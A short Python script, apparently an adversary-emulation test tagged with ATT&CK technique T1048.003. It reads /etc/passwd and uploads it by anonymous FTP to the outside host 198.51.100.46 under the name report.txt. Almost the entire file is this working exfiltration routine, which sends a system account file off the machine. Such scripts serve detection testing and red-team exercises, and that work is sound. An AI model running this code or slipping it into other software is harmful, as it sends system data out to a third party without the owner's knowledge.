#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol: sends a file away by FTP.
import ftplib
import io

try:
    ftp = ftplib.FTP("198.51.100.46", timeout=8)
    ftp.login("anonymous", "guest")
    ftp.storbinary("STOR report.txt", io.BytesIO(open("/etc/passwd", "rb").read()))
    ftp.quit()
except (OSError, EOFError, ftplib.Error) as e:
    print(e)
